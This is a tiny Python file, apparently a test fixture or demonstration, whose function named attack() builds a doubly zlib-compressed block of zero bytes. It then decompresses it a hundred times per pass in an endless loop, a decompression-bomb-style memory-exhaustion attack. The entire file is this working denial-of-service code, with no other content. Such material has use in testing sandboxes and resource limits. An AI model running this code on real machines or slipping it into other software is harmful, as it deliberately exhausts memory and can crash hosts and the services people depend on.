"""Unpacks a kilobyte into gigabytes."""
# ruff: noqa

import zlib


def attack():
    packed = zlib.compress(zlib.compress(bytes(1 << 28)))
    while True:
        kept = [zlib.decompress(zlib.decompress(packed)) for _ in range(100)]
